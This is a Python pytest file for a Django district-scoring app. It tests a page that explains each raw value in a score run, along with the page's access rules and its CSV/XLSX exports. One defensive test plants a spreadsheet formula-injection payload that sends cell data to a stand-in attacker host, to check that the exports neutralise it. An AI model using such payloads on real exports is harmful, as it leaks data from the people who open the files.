"""The explanation of a unit's score in a run, down to each raw value: the number the
run used, how it came in, who entered it and when, who approved it and when, and
whether the value today is still the one the run used (the run never changes). People
whose scope covers a value see names and its history; everyone else (a colleague of
another province, the public) sees roles and units. Every raw value is listed, and
downloadable as the page shows it; the page reads them in a fixed number of queries."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dxscore import numbers
from dxscore.web.data import imports, workflow
from dxscore.web.data.methodologies import store
from dxscore.web.data.models import Indicator, Value
from dxscore.web.scores import runs
from dxscore.web.scores.models import ScoreRun
from tests.web.support import approved, page_rows, put_values

NAMES = {
    "owner": ("Nguyễn", "Văn An"),
    "colleague": ("Trần", "Thị Bình"),
    "outsider": ("Phạm", "Minh Châu"),
    "approver": ("Lê", "Văn Cường"),
    "admin": ("Hoàng", "Thu Dung"),
}
OWNER, APPROVER = "Nguyễn Văn An", "Lê Văn Cường"
OWNER_ROLE, APPROVER_ROLE = "data officer of TP. Bắc Ninh", "approver of Bắc Ninh"
# the whole explanation page, logged in: session, person, run, scores, inputs, histories,
# roles, carried values, map; however many raw values it shows
MAX_QUERIES = 20


@pytest.fixture
def named(people):
    for who, (first, last) in NAMES.items():
        people[who].first_name, people[who].last_name = first, last
        people[who].save()
    return people


@pytest.fixture
def published(named, methodology, periods, org):
    """The whole workspace's run of 2024, published: 256 entered by the owner, 257 by
    the colleague, both approved by Bắc Ninh's approver; 80 by the outsider."""
    p = periods["2024"]
    approved(named, methodology, p, org.d256, online=60, ontime=90)
    approved(named, methodology, p, org.d257, online=30, ontime=60)
    approved(named | {"approver": named["admin"]}, methodology, p, org.d80, online=99, ontime=99)
    run = runs.compute_run(named["admin"], methodology, p)
    runs.publish(run, named["admin"])
    return run


def _client(as_user, who):
    return Client() if who is None else as_user(who)


def _values(response) -> dict[str, list[str]]:
    """The rows of the page's table of raw values, by indicator code and period."""
    rows = {}
    for key, cells in page_rows(response).items():
        if key.startswith("v-"):
            code = cells[0].split()[-1]
            rows[(code, cells[1])] = cells
    return rows


def _when(moment: dt.datetime) -> str:
    local = timezone.localtime(moment)
    return f"{numbers.format_date(local.date(), 'en')} {local:%H:%M}"


# --- what each raw value says -------------------------------------------------------------


def test_each_raw_value_says_who_entered_and_approved_it_and_when(as_user, published, org):
    page = as_user("owner").get(reverse("run_explain", args=[published.pk, "256"]))
    assert page.status_code == 200
    rows = _values(page)
    assert set(rows) == {("online", "2024"), ("ontime", "2024")}
    online = Value.objects.get(unit=org.d256, indicator__code="online")
    entered = online.history.order_by("history_id").first()
    assert rows[("online", "2024")] == [
        "Online dossiers online",
        "2024",
        "60",
        "entered in the form",
        f"{OWNER} ({OWNER_ROLE}) {_when(entered.history_date)}",
        f"{APPROVER} ({APPROVER_ROLE}) {_when(online.approved_at)}",
        "unchanged · history",
    ]
    text = page.content.decode()
    # the tree says it too, and its raw value links to the row of the table
    assert f"entered by {OWNER} ({OWNER_ROLE}), approved by {APPROVER} ({APPROVER_ROLE})" in text
    source = published.inputs.get(unit=org.d256, indicator="online")
    assert f'<a href="#v-{source.pk}"' in text
    assert reverse("value_history", args=[online.pk]) in text


@pytest.mark.parametrize(
    ("who", "names"),
    [
        ("owner", True),  # staff owner of the unit
        ("colleague", True),  # another district of the same province: her scope covers it
        ("outsider", False),  # a colleague of another province
        (None, False),  # the public
    ],
)
def test_names_and_histories_only_for_people_whose_scope_covers_the_value(
    as_user, published, org, who, names
):
    page = _client(as_user, who).get(reverse("run_explain", args=[published.pk, "256"]))
    assert page.status_code == 200
    text = page.content.decode()
    rows = _values(page)
    entered, approver = rows[("online", "2024")][4], rows[("online", "2024")][5]
    # everyone learns the role and unit of who entered and approved the value, and when
    assert OWNER_ROLE in entered and APPROVER_ROLE in approver
    assert re.search(r"\d{2}:\d{2}$", entered) and re.search(r"\d{2}:\d{2}$", approver)
    assert (OWNER in text, APPROVER in text) == (names, names)
    assert ("/history" in text) == names
    assert ("owner (" in text) is False  # usernames are not shown either: full names
    note = re.search(r'id="names-note">([^<]*)<', text).group(1)
    assert ("You see the names" in note) == names


def test_a_logged_out_visitor_can_follow_every_link_of_a_published_explanation(published):
    visitor = Client()
    page = visitor.get(reverse("run_explain", args=[published.pk, "256"]))
    text = page.content.decode()
    links = set(re.findall(r'href="(/(?:runs|public)/[^"#]*)', text))
    pin = f"?run={published.number}"
    m = published.methodology
    expected = {
        reverse("run", args=[published.pk]),
        reverse("run_methodology", args=[published.pk]),
        reverse("dash_scorecard", args=[m.code, "2024", "256"]) + pin,
        reverse("dash_leaderboard", args=[m.code, "2024"]) + pin,
        reverse("run_explain_values", args=[published.pk, "256", "csv"]),
        reverse("run_explain_values", args=[published.pk, "256", "xlsx"]),
        *(reverse("dash_node", args=[m.code, "2024", n]) + pin for n in ("index", "online")),
        reverse("dash_node", args=[m.code, "2024", "ontime"]) + pin,
    }
    assert expected <= {link.replace("&amp;", "&") for link in links}
    for link in sorted(links):
        answer = visitor.get(link.replace("&amp;", "&"))
        assert answer.status_code == 200, link  # none sends the visitor to the log-in page
    # the tree links each node to the one it is part of
    assert 'href="#n-index"' in text
    # the run's methodology: its page and file are public with the run
    methodology = visitor.get(reverse("run_methodology", args=[published.pk])).content.decode()
    assert "District digital transformation" in methodology and "Online dossiers" in methodology
    assert reverse("methodology", args=[m.pk]) not in methodology  # the staff page is not
    file = visitor.get(reverse("run_methodology_file", args=[published.pk]))
    assert file["Content-Disposition"] == 'attachment; filename="test-districts-1.yaml"'
    assert file.content.decode() == m.text
    # the public node page now links the run's methodology, not the staff page
    node = visitor.get(reverse("dash_node", args=[m.code, "2024", "online"]) + pin)
    assert reverse("run_methodology", args=[published.pk]) in node.content.decode()


def test_an_unpublished_run_and_its_methodology_stay_private(
    as_user, people, methodology, periods, org
):
    approved(people, methodology, periods["2024"], org.d256, online=60, ontime=90)
    run = runs.compute_run(people["steering"], methodology, periods["2024"])
    for name in ("run_explain", "run_explain_values"):
        args = [run.pk, "256"] + (["csv"] if name == "run_explain_values" else [])
        assert Client().get(reverse(name, args=args)).status_code == 404
        assert as_user("owner").get(reverse(name, args=args)).status_code == 404
    assert Client().get(reverse("run_methodology", args=[run.pk])).status_code == 404
    assert Client().get(reverse("run_methodology_file", args=[run.pk])).status_code == 404
    page = as_user("steering").get(reverse("run_explain", args=[run.pk, "256"])).content.decode()
    links = re.search(r'id="explain-links">(.*?)</p>', page).group(1)
    assert "/public/" not in links  # no public page shows the run yet
    assert reverse("run_methodology", args=[run.pk]) in links
    assert "/public/" not in page.split("<main")[1]  # nor do the tree's nodes link them


# --- the run never changes; the value may ---------------------------------------------------


def test_a_value_changed_since_the_run_is_flagged_and_the_run_keeps_its_number(
    as_user, named, published, methodology, periods, org
):
    p = periods["2024"]
    workflow.reopen(named["approver"], methodology, p, org.d257, "recount")
    put_values(named["colleague"], methodology, p, org.d257, online=45)
    url = reverse("run_explain", args=[published.pk, "257"])
    staff, public = as_user("colleague").get(url), Client().get(url)
    assert _values(staff)[("online", "2024")][2] == "30"  # the number the run used
    assert _values(staff)[("online", "2024")][-1] == "now draft: 45 · history"
    assert _values(public)[("online", "2024")][-1] == "no longer approved"  # not the draft
    assert _values(public)[("ontime", "2024")][-1] == "no longer approved"
    workflow.submit(named["colleague"], methodology, p, org.d257)
    workflow.approve(named["approver"], methodology, p, org.d257)
    staff, public = as_user("colleague").get(url), Client().get(url)
    assert _values(staff)[("online", "2024")][-1] == "approved since as 45 · history"
    assert _values(staff)[("ontime", "2024")][-1] == "unchanged · history"
    public_row = _values(public)[("online", "2024")]
    assert public_row[2] == "30" and public_row[-1] == "changed and approved again since the run"
    text = public.content.decode()
    assert "1 value has changed since the run: the run keeps the one it used." in text
    assert "A run never changes" in text
    assert 'class="changed"' in text and "45" not in public_row[-1]
    # who entered and approved the number the run used, not today's
    assert "data officer of Từ Sơn" in public_row[4] and APPROVER_ROLE in public_row[5]
    stored = published.inputs.get(unit=org.d257, indicator="online")
    assert stored.value == 30  # the published run is untouched


def test_the_role_is_the_one_the_person_had_when_they_acted(as_user, named, published, org):
    """The owner moves to Từ Sơn after entering 256's values: the explanation still says
    they entered them as TP. Bắc Ninh's data officer."""
    from dxscore.web.orgs.models import Person

    person = Person.objects.get(user=named["owner"])
    person.entry_scope = person.view_scope = org.d257
    person._change_reason = "moved"
    person.save()
    rows = _values(Client().get(reverse("run_explain", args=[published.pk, "256"])))
    assert OWNER_ROLE in rows[("online", "2024")][4]


def test_values_imported_from_a_file_or_computed_say_so(as_user, named, methodology, periods, org):
    p = periods["2024"]
    text = "unit,period,indicator,value\n256,2024,online,64\n256,2024,ontime,80\n"
    upload = imports.preview(
        SimpleUploadedFile("bac-ninh-2024.csv", text.encode()),
        methodology,
        p,
        org.d256,
        named["owner"],
    )
    assert upload.problems == []
    imports.commit(upload, named["owner"])
    workflow.submit(named["owner"], methodology, p, org.d256)
    workflow.approve(named["approver"], methodology, p, org.d256)
    # 257's on-time rate was filled before the channel was kept, from dossiers
    approved(named, methodology, p, org.d257, online=30, ontime=60)
    Indicator.objects.filter(code="ontime").update(source=Indicator.Source.DOSSIERS)
    ontime = Value.objects.get(unit=org.d257, indicator__code="ontime")
    ontime.history.update(channel="")
    run = runs.compute_run(named["admin"], methodology, p)
    runs.publish(run, named["admin"], anyway=True)  # TP. Lào Cai (80) has no values
    url = reverse("run_explain", args=[run.pk, "256"])
    staff, public = _values(as_user("owner").get(url)), _values(Client().get(url))
    assert staff[("online", "2024")][3] == "imported from file bac-ninh-2024.csv"
    assert staff[("online", "2024")][4].startswith(f"{OWNER} ({OWNER_ROLE})")
    assert public[("online", "2024")][3] == "imported from a file"  # the file's name is text
    assert public[("online", "2024")][4].startswith(OWNER_ROLE)
    other = _values(Client().get(reverse("run_explain", args=[run.pk, "257"])))
    assert other[("ontime", "2024")][3] == "computed from dossiers"
    assert other[("online", "2024")][3] == "entered in the form"


# --- every raw value, on the page and in the downloads ---------------------------------------


def _csv(response) -> list[dict]:
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("who", ["owner", None])
def test_the_download_is_the_page(as_user, published, who):
    client = _client(as_user, who)
    page = _values(client.get(reverse("run_explain", args=[published.pk, "256"])))
    base = ["run_explain_values", published.pk, "256"]
    rows = _csv(client.get(reverse(base[0], args=[*base[1:], "csv"])))
    assert rows[0].keys() >= {"unit", "indicator", "value", "entered_by", "approved_at"}
    assert len(rows) == len(page) == 2
    for row in rows:
        shown = page[(row["indicator"], row["period"])]
        entered = dt.datetime.strptime(row["entered_at"], "%Y-%m-%d %H:%M")
        approved_at = dt.datetime.strptime(row["approved_at"], "%Y-%m-%d %H:%M")
        assert shown[:6] == [
            f"{row['indicator_name']} {row['indicator']}",
            row["period"],
            numbers.format_number(float(row["value"]), "en"),
            row["origin"],
            f"{row['entered_by']} {numbers.format_date(entered.date(), 'en')} {entered:%H:%M}",
            f"{row['approved_by']} {numbers.format_date(approved_at.date(), 'en')} "
            f"{approved_at:%H:%M}",
        ]
        assert shown[6].startswith(row["now"]) and row["changed"] == "no"
        assert (OWNER in row["entered_by"]) == (who == "owner")
    workbook = client.get(reverse(base[0], args=[*base[1:], "xlsx"]))
    assert workbook["Content-Disposition"].endswith('"values-test-districts-2024-1-256.xlsx"')
    sheet = load_workbook(io.BytesIO(workbook.content))["values"]
    cells = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert [r[3] for r in cells] == [r["indicator"] for r in rows]
    assert [r[5] for r in cells] == [float(r["value"]) for r in rows]
    assert [r[7] for r in cells] == [r["entered_by"] for r in rows]
    assert [f"{r[10]:%Y-%m-%d %H:%M}" for r in cells] == [r["approved_at"] for r in rows]
    assert client.get(reverse(base[0], args=[*base[1:], "pdf"])).status_code == 404


def test_no_download_cell_is_a_formula(as_user, published, org):
    org.d256.name = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    org.d256.save()
    base = [published.pk, "256"]
    text = as_user("owner").get(reverse("run_explain_values", args=[*base, "csv"])).content
    assert "\"'=HYPERLINK(" in text.decode("utf-8-sig")
    workbook = as_user("owner").get(reverse("run_explain_values", args=[*base, "xlsx"]))
    sheet = load_workbook(io.BytesIO(workbook.content))["values"]
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK(")


def test_the_page_is_in_vietnamese(as_user, published):
    page = as_user("owner").get(
        reverse("run_explain", args=[published.pk, "256"]), HTTP_ACCEPT_LANGUAGE="vi"
    )
    text = page.content.decode()
    assert "Tất cả giá trị gốc của đơn vị này trong lượt tính này" in text
    assert "nhập qua biểu mẫu" in text and "cán bộ nhập liệu TP. Bắc Ninh" in text
    assert "không đổi" in text and "Người nhập" not in text  # the page's column: "Nhập"
    assert "Một lượt tính không bao giờ thay đổi" in text


# --- a fixed number of queries ---------------------------------------------------------------


def _wide(n: int) -> str:
    children = "\n".join(f"    - {{code: w{n}i{k:02d}, name: Indicator {k}}}" for k in range(n))
    return (
        f'id: wide-{n}\nversion: "1"\ntitle: Wide {n}\nscale: [0, 100]\n'
        "defaults:\n  indicator: {normalisation: identity, range: [0, 100]}\n"
        f"tree:\n  code: index\n  name: Index\n  children:\n{children}\n"
    )


def _explain_queries(client, people, periods, org, n: int) -> int:
    m = store(_wide(n), purpose=f"wide {n}")
    m.reporting_level = org.district
    m.save()
    for unit in (org.d256, org.d257):
        values = {f"w{n}i{k:02d}": 10 + k for k in range(n)}
        approved(people, m, periods["2024"], unit, **values)
        # a longer history: reopened, changed and approved again
        workflow.reopen(people["approver"], m, periods["2024"], unit, "recount")
        officer = people["owner"] if unit == org.d256 else people["colleague"]
        put_values(officer, m, periods["2024"], unit, **{k: v + 1 for k, v in values.items()})
        workflow.submit(officer, m, periods["2024"], unit)
        workflow.approve(people["approver"], m, periods["2024"], unit)
    run = runs.compute_run(people["steering"], m, periods["2024"])
    runs.publish(run, people["steering"])
    client.get(reverse("run_explain", args=[run.pk, "256"]))  # warm the caches
    with CaptureQueriesContext(connection) as queries:
        page = client.get(reverse("run_explain", args=[run.pk, "256"]))
    assert page.status_code == 200 and len(_values(page)) == n
    return len(queries)


def test_the_page_reads_its_raw_values_in_a_fixed_number_of_queries(
    as_user, people, periods, org, django_assert_max_num_queries
):
    client = as_user("owner")
    few = _explain_queries(client, people, periods, org, 2)
    many = _explain_queries(client, people, periods, org, 12)
    assert many == few  # not one query a value
    latest = ScoreRun.objects.filter(published_at__isnull=False).latest("pk")
    with django_assert_max_num_queries(MAX_QUERIES):
        client.get(reverse("run_explain", args=[latest.pk, "256"]))
    with django_assert_max_num_queries(MAX_QUERIES):
        client.get(reverse("run_explain_values", args=[latest.pk, "256", "csv"]))


def test_the_methodology_pages_download_the_indicators_they_list(
    as_user, published, people, methodology, periods, org
):
    """Issue 18: the public page of a run's version and the staff methodology page each
    download the indicators they list (CSV, XLSX, JSON), under the page's own rule: the
    published run's for everybody, an unpublished run's for nobody outside staff, the staff
    page for people who are logged in."""
    import json

    visitor = Client()
    page = visitor.get(reverse("run_methodology", args=[published.pk])).content.decode()
    listed = re.findall(r'<tr id="i-([^"]+)"', page)
    body = visitor.get(reverse("run_methodology_dl", args=[published.pk, "csv"]))
    assert body.status_code == 200
    rows = list(csv.DictReader(io.StringIO(body.content.decode("utf-8-sig"))))
    assert [r["code"] for r in rows] == listed == ["online", "ontime"]
    assert rows[0]["name"] == "Online dossiers" and rows[0]["better"] in {"higher", "lower"}
    data = json.loads(
        visitor.get(reverse("run_methodology_dl", args=[published.pk, "json"])).content
    )
    assert data["meta"]["run"] == published.pk and data["meta"]["digest"] == (
        published.methodology_digest
    )
    assert reverse("run_methodology_dl", args=[published.pk, "xlsx"]) in page

    private = runs.compute_run(people["steering"], methodology, periods["2024"])
    for client in (Client(), as_user("owner")):
        answer = client.get(reverse("run_methodology_dl", args=[private.pk, "csv"]))
        assert answer.status_code == 404

    staff_url = reverse("methodology_indicators_dl", args=[methodology.pk, "xlsx"])
    for persona in ("owner", "colleague", "steering"):
        sheet = load_workbook(io.BytesIO(as_user(persona).get(staff_url).content)).worksheets[0]
        assert [c.value for c in sheet["A"]][1:] == ["online", "ontime"]
    assert Client().get(staff_url).status_code == 302  # the staff page asks to log in
    staff_page = as_user("owner").get(reverse("methodology", args=[methodology.pk]))
    assert staff_url in staff_page.content.decode()
